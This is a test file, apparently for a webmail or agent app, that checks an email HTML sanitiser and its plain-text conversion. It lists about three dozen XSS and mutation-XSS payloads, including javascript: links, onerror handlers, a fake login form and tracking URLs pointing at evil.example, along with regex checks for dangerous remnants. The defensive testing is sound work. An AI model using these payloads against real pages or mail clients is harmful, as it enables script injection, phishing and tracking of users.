import { describe, expect, it } from 'vitest';
import { sanitizeEmailHtml } from '../../../../src/server/content/sanitize-email-html';
import { htmlToPlainText } from '../../../../src/server/content/html-text';

const noCid = () => null;

/** Payloads that run script, reach out or escape their box in one browser or another. */
const XSS_PAYLOADS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><circle r=1 /></svg>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">click</a>',
  '<a href="&#106;avascript:alert(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<form action="https://evil.example"><input name=password><button>Log in</button></form>',
  '<style>@import url(https://evil.example/x.css); body{background:url(https://evil.example/track)}</style>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<div style="background-image:url(https://evil.example/track)">bg</div>',
  '<div style="width: expression(alert(1))">ie</div>',
  '<p style="behavior:url(x.htc)">htc</p>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<table background="https://evil.example/track.gif"><tr><td>t</td></tr></table>',
  '<img srcset="https://evil.example/track.png 1x">',
  '<details open ontoggle=alert(1)>',
  '<body onload=alert(1)>',
  '<a href="https://example.com" onclick="alert(1)" target="_top">ok</a>',
  '<<script>script>alert(1)<</script>/script>',
  '<template><img src=x onerror=alert(1)></template>',
  // What sanitize-html fixed after 2.17.5 (the version pinned for Node 20), checked against our allowlist.
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<textarea></textarea/><img src=x onerror=alert(1)>',
  '<svg><textarea><img src=x onerror=alert(1)></textarea></svg>',
  '<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<svg><a><animate attributeName="href" values="javascript:alert(1)" /><text>x</text></a></svg>',
  '<iframe><img src=x onerror=alert(1)></iframe>',
  '<img srcset="javascript:alert(1) 1x">',
];

describe('email HTML sanitising', () => {
  it('nothing in a payload survives that could run or reach out', () => {
    for (const payload of XSS_PAYLOADS) {
      const clean = sanitizeEmailHtml(payload, noCid);
      expect(clean, payload).not.toMatch(/<(script|iframe|object|embed|form|input|button|style|link|meta|base|svg|math|template|body)\b/i);
      // Inside a tag: sanitised text escapes '<', so a payload shown as text may mention onerror= harmlessly.
      expect(clean, payload).not.toMatch(/<[^>]*\son\w+\s*=/i);
      expect(clean, payload).not.toMatch(/(java|vb)script:|data:text|expression\(|url\(|behavior|srcset|background=/i);
      expect(clean, payload).not.toMatch(/<[^>]*\ssrc\s*=/i);
      expect(clean, payload).not.toMatch(/target="_top"/);
    }
  });

  it('keeps formatting, links open in a new tab without a referrer', () => {
    expect(sanitizeEmailHtml('<p style="color: #c00; font-weight: bold">Hi <b>there</b>, see <a href="https://example.com/a?b=1">this</a>.</p>', noCid)).toBe(
      '<p style="color:#c00;font-weight:bold">Hi <b>there</b>, see <a href="https://example.com/a?b=1" target="_blank" rel="noopener noreferrer nofollow">this</a>.</p>',
    );
    expect(sanitizeEmailHtml('<a href="/api/agents/">relative</a><a href="mailto:a@b.example">mail</a>', noCid)).toBe(
      '<a>relative</a><a href="mailto:a@b.example" target="_blank" rel="noopener noreferrer nofollow">mail</a>',
    );
  });

  it('images wait in data-src until the agent asks; cid: points at the stored attachment', () => {
    const cid = (id: string) => (id === 'logo@mail' ? '/api/attachments/7' : null);
    expect(sanitizeEmailHtml('<img src="https://tracker.example/p.gif" alt="logo" width="1">', cid)).toBe(
      '<img alt="logo" width="1" data-src="https://tracker.example/p.gif" />',
    );
    expect(sanitizeEmailHtml('<img src="cid:logo@mail"><img src="cid:unknown@mail">', cid)).toBe('<img data-src="/api/attachments/7" /><img />');
    expect(sanitizeEmailHtml('<img src="data:image/png;base64,iVBORw0KGgo=">', cid)).toBe('<img data-src="data:image/png;base64,iVBORw0KGgo=" />');
    expect(sanitizeEmailHtml('<img src="data:image/svg+xml;base64,PHN2Zz4=">', cid)).toBe('<img />');
  });

  it('drops the document around the body: head, title and styles are not text of the mail', () => {
    expect(sanitizeEmailHtml('<html><head><title>Secret title</title><style>p{}</style></head><body><p>Body</p></body></html>', noCid)).toBe('<p>Body</p>');
  });

  it('gives the text of an HTML body, line by line', () => {
    expect(htmlToPlainText('<p>Hello &amp; welcome</p><p>Line<br>two &#8212; &lt;ok&gt;</p><script>x</script>')).toBe('Hello & welcome\nLine\ntwo — <ok>');
  });
});
